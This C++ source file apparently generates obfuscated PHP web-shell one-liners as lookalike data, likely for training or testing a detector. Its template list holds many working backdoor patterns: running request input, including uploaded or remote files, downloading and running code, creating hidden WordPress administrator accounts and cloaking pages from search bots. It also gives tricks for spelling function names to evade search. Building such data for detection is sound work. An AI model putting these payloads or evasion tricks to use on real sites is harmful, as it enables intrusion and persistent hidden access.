#include <cctype>

#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/encoding.h"

// Single statements that do what a request or another server says, readable, in the spellings that
// people use for them.
namespace fovea::augment {
namespace {

std::string Key(Junk& j) {
  switch (j.Int(0, 7)) {
    case 0:
      return "[~small~]";
    case 1:
      return "[~key~]";  // of a constant that is none: old code
    case 2:
    case 3:
      return "[\"~key~\"]";
    default:
      return j.Chance(0.3)
                 ? "['" + j.Pick({"cmd", "c", "x", "a", "pass", "p", "code", "q", "id", "z"}) + "']"
                 : "['~key~']";
  }
}

// What a request brings.
std::string Input(Junk& j) {
  const std::string from = j.Pick({"_POST", "_POST", "_GET", "_GET", "_REQUEST", "_COOKIE"});
  if (j.Chance(0.7)) return "$" + from + Key(j);
  return j.Pick({"$_SERVER['HTTP_~UPPER~']",
                 "$_SERVER['HTTP_USER_AGENT']",
                 "$_SERVER['HTTP_REFERER']",
                 "$_SERVER['QUERY_STRING']",
                 "$_SERVER[\"HTTP_X_~UPPER~\"]",
                 "$_SERVER['PHP_AUTH_PW']",
                 "$HTTP_GET_VARS['~key~']",
                 "${'_GET'}['~key~']",
                 "${'_PO'.'ST'}['~key~']",
                 "$GLOBALS['_POST']['~key~']",
                 "$GLOBALS[\"_GET\"][\"~key~\"]",
                 "current($_POST)",
                 "end($_REQUEST)",
                 "reset($_COOKIE)",
                 "array_pop($_GET)",
                 "array_shift($_POST)",
                 "key($_GET)",
                 "implode($_POST)",
                 "filter_input(INPUT_GET,'~key~')",
                 "filter_input(INPUT_POST,\"~key~\")",
                 "getallheaders()['~Word~']",
                 "end(getallheaders())",
                 "apache_request_headers()['~Word~']",
                 "file_get_contents('php://input')",
                 "getenv('HTTP_~UPPER~')",
                 "$_FILES['~key~']['name']",
                 "$_SESSION['~key~']=$_POST['~key~']"});
}

std::string Value(Junk& j) {
  if (j.Chance(0.65)) return "~in~";
  return j.Pick({"base64_decode(~in~)",
                 "base64_decode(~in~)",
                 "stripslashes(~in~)",
                 "trim(~in~)",
                 "urldecode(~in~)",
                 "str_rot13(~in~)",
                 "strrev(~in~)",
                 "hex2bin(~in~)",
                 "pack('H*',~in~)",
                 "gzuncompress(base64_decode(~in~))",
                 "gzinflate(base64_decode(~in~))",
                 "rawurldecode(~in~)",
                 "htmlspecialchars_decode(~in~)",
                 "\"{~in~}\"",
                 "~in~.~in~",
                 "'?>'.~in~",
                 "~in~.';'",
                 "(string)~in~",
                 "~in~?:''",
                 "isset(~in0~)?~in0~:''",
                 "base64_decode(str_replace(' ','+',~in~))"});
}

std::string Run(Junk& j) {
  return j.Pick({"system", "passthru", "exec", "shell_exec", "popen", "proc_open", "pcntl_exec"});
}

// A dangerous function's name, spelled so that no search finds it.
std::string HiddenName(Junk& j) {
  std::string name = j.Pick({"system", "assert", "passthru", "shell_exec", "exec", "eval",
                             "create_function", "base64_decode", "file_put_contents", "popen"});
  const auto at = static_cast<size_t>(j.Int(1, static_cast<int64_t>(name.size()) - 1));
  switch (j.Int(0, 8)) {
    case 0:
      return "'" + name.substr(0, at) + "'.'" + name.substr(at) + "'";
    case 1:
      return "strrev('" + std::string(name.rbegin(), name.rend()) + "')";
    case 2:
      return "base64_decode('" + Base64(name) + "')";
    case 3:
      for (char& c : name)
        if (c >= 'a' && c <= 'z') c = static_cast<char>('a' + (c - 'a' + 13) % 26);
      return "str_rot13('" + name + "')";
    case 4:
      return "\"" + Escaped(name, 0.7, /*octal=*/true, j) + "\"";
    case 5:
      for (char& c : name)
        if (j.Chance(0.5)) c = static_cast<char>(std::toupper(c));
      return "'" + name + "'";
    case 6: {
      const std::string noise = j.Pick({"#", "@", "x0", "-", "%", "_z"});
      return "str_replace('" + noise + "','','" + name.substr(0, at) + noise + name.substr(at) +
             "')";
    }
    case 7:
      return "implode('',array('" + name.substr(0, at) + "','" + name.substr(at) + "'))";
    default:
      return "'" + name + "'";
  }
}

std::string OddPath(Junk& j) {
  const std::string file =
      j.Pick({".", "", "", "_"}) + (j.Chance(0.5) ? j.Letters(j.Int(4, 9)) : j.Word()) +
      j.Pick({".ico", ".png", ".jpg", ".gif", ".css", ".txt", ".log", ".bak", ".tmp", ".php", ".js",
              ".dat", ".inc", ".svg", ".ttf", ".cache", ".old"});
  return j.Pick({"", "./", "../", "../../", "/tmp/", "/dev/shm/", "/var/tmp/", "wp-includes/",
                 "wp-content/uploads/", "images/", "cache/", "media/", "js/", "fonts/"}) +
         file;
}

const Makers& LineMakers() {
  static const Makers makers = {
      {"in", Input},
      {"val", Value},
      {"run", Run},
      {"name", HiddenName},
      {"odd", OddPath},
      {"UPPER",
       [](Junk& j) {
         std::string word = j.Word();
         for (char& c : word) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
         return word;
       }},
      {"inc",
       [](Junk& j) {
         return j.Pick({"include", "require", "include_once", "require_once", "@include"});
       }},
      {"say",
       [](Junk& j) {
         return j.Pick({"echo ", "print ", "die", "exit", "print_r", "var_dump", "echo"});
       }},
      {"note",
       [](Junk& j) {
         return j.Pick({"", "", "", "/*~word~*/", "//~word~ ~word~\n", "/* ~sentence~ */",
                        "#~word~\n", "// ~date~\n"});
       }},
      {"gate",
       [](Junk& j) {
         return j.Pick({"isset(~in~)", "!empty(~in~)", "~in~=='~letters~'", "md5(~in~)=='~md5~'",
                        "sha1(~in~)===\"~hexs~~hexs~\"", "@~in~==='~word~'",
                        "$_SERVER['REMOTE_ADDR']=='~ip~'", "isset($_COOKIE['~key~'])",
                        "strpos($_SERVER['HTTP_USER_AGENT'],'~letters~')!==false",
                        "stristr(~in~,'~word~')", "array_key_exists('~key~',$_REQUEST)",
                        "count($_POST)>~small~", "$_SERVER['REQUEST_METHOD']=='POST'",
                        "password_verify(~in~,'$2y$10$~letters~')", "substr(~in~,0,4)=='~word~'"});
       }},
      {"get", [](Junk& j) {
         return j.Pick({"file_get_contents('~url~')", "file_get_contents(\"~url.txt~\")",
                        "@file_get_contents(base64_decode('~b64s~'))", "curl_exec($~0~)",
                        "implode('',file('~url.txt~'))", "join(\"\",@file('~url~'))",
                        "stream_get_contents(fopen('~url~','r'))",
                        "wp_remote_retrieve_body("
                        "wp_remote_get('~url~'))",
                        "shell_exec('curl -s ~url~')",
                        "file_get_contents('http'.'://'.'~host~/~word~')"});
       }}};
  return makers;
}

// Each without tags, on one line. The planting puts tags on, Disguise the odd case and comments.
constexpr const char* kLines[] = {
    // Run what comes.
    "eval(~val~);", "@eval(~val~);", "eval(~val~);", "@eval(~in~);", "eval(~in~);",
    "eval/*~word~*/(~in~);", "@eval ( ~val~ ) ;", "eval(\"{~in~}\");", "eval('echo '.~in~.';');",
    "return eval(~val~);", "die(eval(~val~));", "assert(~val~);", "@assert(~val~);",
    "$~0~=~in~;assert(\"eval(\\$~0~)\");", "~note~eval(~in~);", "if(~gate~)eval(~val~);",
    "if(~gate~){@eval(~val~);exit;}", "~gate~&&eval(~val~);", "~gate~ and @assert(~val~);",
    "~gate~?eval(~val~):null;", "~note~@~run~(~in~);", "~run~(~val~);", "@~run~(~val~);",
    "echo ~run~(~val~);", "~say~(~run~(~val~));", "system(~in~.' 2>&1');",
    "passthru(\"{~in~} 2>&1\");", "echo `{~in~}`;", "echo `$_GET[~key~]`;", "print `{~in~}`;",
    "die(`{~in~}`);", "echo shell_exec(~val~);", "echo '<pre>'.shell_exec(~in~).'</pre>';",
    "exec(~in~,$~0~);print_r($~0~);", "exec(~val~,$~0~);echo join(\"\\n\",$~0~);",
    "$~0~=popen(~in~,'r');while(!feof($~0~))echo fgets($~0~);pclose($~0~);",
    "echo fread(popen(~in~,'r'),~num~);",
    "$~0~=proc_open(~in~,array(1=>array('pipe','w')),$~1~);echo stream_get_contents($~1~[1]);",
    "if(~gate~){~run~(~val~);}", "if(~gate~){echo ~run~(~in~);die;}",
    "system(isset(~in0~)?~in0~:'id');", "system('cd '.~in~.';'.~in~);",
    "@assert($_REQUEST['~key~']);", "@assert($_POST[~key~]);", "assert($_GET['~key~']);",
    "@assert(stripslashes($_REQUEST['~key~']));", "assert(\"$_POST[~key~]\");",
    "@system($_REQUEST['~key~']);", "@exec($_GET['~key~']);", "echo @shell_exec($_GET['~key~']);",
    "isset($_GET['~key0~'])&&system($_GET['~key0~']);",
    "if(isset($_REQUEST['~key0~'])){echo '<pre>';$~0~=($_REQUEST['~key0~']);system($~0~);die;}",
    "isset($_POST['~key0~'])?eval($_POST['~key0~']):0;",
    // Take in what comes.
    "include $_GET['~key~'];", "include($_GET['~key~']);", "@include $_REQUEST['~key~'];",
    "require $_COOKIE['~key~'];", "include $_POST['~key~'].'.php';", "include(\"$_GET[~key~]\");",
    "include($_FILES['~key~']['tmp_name']);", "@include $_FILES['~key~']['tmp_name'];",
    "require_once($_FILES[~key~][tmp_name]);", "foreach($_FILES as $~0~)include $~0~['tmp_name'];",
    "if(isset($_GET['~key0~']))include $_GET['~key0~'];",
    "isset($_GET['~key0~'])and include $_GET['~key0~'];", "include current($_FILES)['tmp_name'];",
    "include 'php://input';", "@include'data:,'.~in~;",
    "include 'php://filter/convert.base64-decode/resource='.~in~;", "~inc~(~in~);", "~inc~ ~in~;",
    "@~inc~(~in~.'.php');", "~inc~($_SERVER['DOCUMENT_ROOT'].~in~);",
    "~inc~('data://text/plain;base64,'.~in~);", "~inc~ '~odd~';", "@~inc~('~odd~');",
    "~inc~(dirname(__FILE__).'/~odd~');", "if(file_exists('~odd0~'))~inc~ '~odd0~';",
    "if(is_file($~0~='~odd~'))@~inc~($~0~);", "~inc~ __DIR__.'/~odd~';",
    "~inc~ sys_get_temp_dir().'/~letters~';", "~inc~ 'zip://~odd~#~word~';",
    "~inc~ base64_decode('~b64s~');", "~inc~ '/proc/self/fd/~small~';",
    "~inc~($_FILES['~key~']['tmp_name']);", "if(~gate~)~inc~ ~in~;",
    // Functions by a name that comes, or is spelled oddly.
    "$_GET['~key~']($_POST['~key~']);", "@$_GET[~key~]($_POST[~key~]);", "~in~(~in~);",
    "@~in~(~in~,~in~);", "($_=@$_GET[~small~]).@$_($_POST[~small~]);", "$~0~=~in~;$~0~(~val~);",
    "$~0~=~name~;$~0~(~val~);", "@$~0~=~name~;@$~0~(~in~);", "(~name~)(~val~);",
    "$~0~=~name~;echo $~0~(~in~);", "$~0~=~name~;$~1~=~name~;$~0~($~1~(~in~));",
    "$~0~=array(~name~,~name~);$~0~[0]($~0~[1](~in~));", "call_user_func(~name~,~val~);",
    "@call_user_func(~in~,~in~);", "call_user_func_array(~name~,array(~val~));",
    "array_map(~name~,array(~val~));", "array_map(~name~,$_POST);",
    "array_filter(array(~val~),~name~);", "@array_walk($_REQUEST,~name~);",
    "array_walk_recursive($~0~=array(~in~),~name~);", "array_reduce(array(~in~,''),~name~);",
    "array_diff_ukey(@array(~in~=>1),@array(~in~=>2),~name~);", "usort($_POST,~name~);",
    "uasort($~0~=array(~in~,~in~),~name~);", "uksort($~0~=array(~in~=>1,~in~=>2),~name~);",
    "iterator_apply(new ArrayIterator(array(1)),~name~,array(~in~));",
    "register_shutdown_function(~name~,~val~);", "register_tick_function(~name~,~in~);",
    "set_error_handler(~name~);trigger_error(~in~);", "spl_autoload_register(~name~);new ${~in~};",
    "ob_start(~name~);echo ~val~;ob_end_flush();", "forward_static_call(~name~,~val~);",
    "mb_ereg_replace('.*',~in~,'','e');", "preg_filter('|.*|e',~val~,'');",
    "preg_replace('/.*/e',~val~,'~word~');", "@preg_replace(\"/[~word~]/e\",~in~,\"~word~\");",
    "preg_replace_callback('/.+/i',create_function('$~0~','return eval($~0~[0]);'),~in~);",
    "$~0~=create_function('',~val~);$~0~();", "create_function('','}'.~in~.'//');",
    "(new ReflectionFunction(~name~))->invoke(~val~);", "(function($~0~){eval($~0~);})(~in~);",
    "array_map(function($~0~){return eval($~0~);},[~in~]);",
    "$~0~=fn($~1~)=>eval($~1~);$~0~(~in~);", "$_=~in~;@$_(~in~);",
    "@$_=$_REQUEST;@$_['~key~']($_['~key~']);", "$~0~=$_POST;$~0~['~key~']($~0~['~key~']);",
    "extract($_REQUEST);@$~0~($~1~);", "@extract($_POST);eval($~0~);",
    "extract($_GET)&&@$~0~($~1~,$~2~);",
    "parse_str(~in~,$~0~);"
    "eval($~0~['~key~']);",
    "foreach($_POST as $~0~=>$~1~)@$~0~($~1~);", "foreach($_GET as $~0~)eval($~0~);",
    "list($~0~,$~1~)=array_values($_POST);$~0~($~1~);", "unserialize(~val~);",
    "@unserialize(base64_decode(~in~))->~key~();",
    "class ~0~{function __destruct(){eval(~in~);}}new ~0~;",
    "class ~0~{public $~1~;function __construct($~2~){@eval($~2~);}}new ~0~(~val~);",
    "$_GET[0]($_POST[1]);", "@$_REQUEST[0]($_REQUEST[1]);",
    "$_POST['~key~']($_POST['~key~'],~in~);", "extract($_REQUEST);$~0~($~1~);",
    "extract($_POST);@$~0~($~1~);", "@extract($_REQUEST);die($~0~($~1~));",
    "foreach($_REQUEST as $~0~=>$~1~)$$~0~=$~1~;$~2~($~3~);",
    "parse_str($_SERVER['QUERY_STRING']);$~0~($~1~);", "array_map('assert',$_POST);",
    "array_map('assert',array($_REQUEST['~key~']));",
    "array_map($_GET['~key~'],array($_GET['~key~']));", "array_map($_POST[0],(array)$_POST[1]);",
    "array_filter((array)$_REQUEST['~key~'],'assert');", "create_function('',$_POST['~key~'])();",
    "$~0~=create_function('$~1~',$_REQUEST['~key~']);$~0~(1);",
    "call_user_func($_GET['~key~'],$_GET['~key~']);", "preg_replace('/.*/e',$_POST['~key~'],'');",
    "@preg_replace('/(.*)/e',@$_REQUEST['~key~'],'.');",
    "preg_replace($_GET[~key~],$_GET[~key~],$_GET[~key~]);",
    "preg_replace('~~.*~~e',stripslashes($_POST['~key~']),'');",
    "(new $_GET['~key~']($_GET['~key~']))->"
    "{$_GET['~key~']}();",
    "[$_GET['~key~'],$_GET['~key~']]($_GET['~key~']);",
    "$~0~='_'.'GET';$~0~=$$~0~;$~0~[0]($~0~[1]);",
    // Files of a request.
    "file_put_contents($_GET['~key~'],file_get_contents($_GET['~key~']));",
    "file_put_contents($_POST['~key~'],$_POST['~key~']);",
    "@file_put_contents(basename($_GET['~key0~']),file_get_contents($_GET['~key0~']));",
    "copy($_GET['~key~'],$_GET['~key~']);", "@copy($_REQUEST['~key~'],'~odd~');",
    "@copy($_FILES['~key0~']['tmp_name'],$_FILES['~key0~']['name']);",
    "echo move_uploaded_file($_FILES[~key0~][tmp_name],$_FILES[~key0~][name])?'+':'-';",
    "fwrite(fopen($_GET['~key~'],'w'),file_get_contents($_GET['~key~']));",
    "file_put_contents('~odd~',base64_decode($_POST['~key~']));",
    "file_put_contents($~0~=$_GET['~key~'],$_GET['~key~']);include $~0~;",
    "if($_GET['~key0~'])file_put_contents($_GET['~key0~'],file_get_contents('php://input'));",
    "file_put_contents(~in~,~val~);", "@file_put_contents('~odd~',~val~);",
    "file_put_contents('~odd~','<?php '.~in~);", "file_put_contents(~in~,file_get_contents(~in~));",
    "fwrite(fopen(~in~,'w'),~val~);", "fputs(fopen('~odd~','w'),~val~);", "@copy(~in~,~in~);",
    "copy($_FILES['~key0~']['tmp_name'],$_FILES['~key0~']['name']);",
    "move_uploaded_file($_FILES['~key0~']['tmp_name'],$_FILES['~key0~']['name']);",
    "@move_uploaded_file($_FILES['~key0~']['tmp_name'],~in~.'/'.$_FILES['~key0~']['name']);",
    "if($_FILES)move_uploaded_file($_FILES['~key0~']['tmp_name'],'./'.$_FILES['~key0~']['name']);",
    "foreach($_FILES as $~0~)@move_uploaded_file($~0~['tmp_name'],$~0~['name']);",
    "rename(~in~,~in~);", "unlink(~in~);", "readfile(~in~);", "echo file_get_contents(~in~);",
    "highlight_file(~in~);", "chmod(~in~,0777);",
    // Other servers.
    "eval(~get~);", "@eval('?>'.~get~);", "~note~eval(~get~);", "assert(~get~);",
    "$~1~=~get~;eval($~1~);", "$~1~=~get~;@eval('?>'.$~1~);", "if(~gate~)eval(~get~);",
    "~run~(~get~);", "file_put_contents('~odd0~',~get~);include '~odd0~';",
    "file_put_contents('~odd~',~get~);", "copy('~url~','~odd~');",
    "@copy('~url.txt~','~odd0~');"
    "include('~odd0~');",
    "~inc~('~url.txt~');", "eval(file_get_contents(~in~));",
    "$~0~=curl_init('~url~');curl_setopt($~0~,CURLOPT_RETURNTRANSFER,1);eval('?>'.~get~);",
    "$~0~=tmpfile();fwrite($~0~,~get~);include stream_get_meta_data($~0~)['uri'];",
    "system('wget ~url~ -O ~odd~');", "shell_exec('curl -o ~odd0~ ~url~;php ~odd0~');",
    "if(!file_exists('~odd0~')){file_put_contents('~odd0~',~get~);}include_once '~odd0~';",
    // Mail and accounts.
    "mail(~in~,~in~,~in~);", "if(~gate~){mail(~in~,~in~,~val~,~in~);echo 'ok';}",
    "foreach(explode(\"\\n\",~in~) as $~0~)@mail(trim($~0~),~in~,~in~,\"From: \".~in~);",
    "mail('~word~@~host~',$_SERVER['HTTP_HOST'],serialize($_POST));",
    "$~0~=wp_create_user('~word~','~letters~','~word~@~host~');(new "
    "WP_User($~0~))->set_role('administrator');",
    "if(!username_exists('~word0~'))wp_insert_user(array('user_login'=>'~word0~','user_pass'=>"
    "'~letters~','role'=>'administrator'));",
    "if(~gate~){require_once ABSPATH.'wp-includes/registration.php';wp_insert_user(array("
    "'user_login'=>~in~,'user_pass'=>~in~,'role'=>'administrator'));}",
    "if(~gate~){wp_set_auth_cookie(~small~);wp_redirect(admin_url());exit;}",
    "add_action('init',function(){if(~gate~){$~0~=get_users(['role'=>'administrator'])[0];"
    "wp_set_auth_cookie($~0~->ID);}});",
    "add_action('pre_user_query',function($~0~){global $wpdb;$~0~->query_where.=\" AND "
    "{$wpdb->users}.user_login!='~word~'\";});",
    "add_action('init',function(){if(~gate~)eval(~val~);});",
    "add_filter('the_content',function($~0~){return $~0~.~get~;});",
    // By who asks.
    "if(~gate~){header('Location: ~url~');exit;}", "if(~gate~){echo ~get~;exit;}",
    "if(preg_match('/bot|crawl|google/i',$_SERVER['HTTP_USER_AGENT']))exit(~get~);",
    "if($_SERVER['HTTP_USER_AGENT']=='~letters~')eval(~in~);", "@eval($_SERVER['HTTP_~UPPER~']);",
    "if(isset($_COOKIE['~key0~']))@eval($_COOKIE['~key0~']);"};

}  // namespace

std::string PhpLineLookalike(Junk& junk) {
  std::string code = FillAny(kLines, LineMakers(), junk);
  if (junk.Chance(0.06)) code = "error_reporting(0);" + code;
  if (junk.Chance(0.04)) code += junk.Pick({"exit;", "die();", "die;"});
  return code;
}

}  // namespace fovea::augment
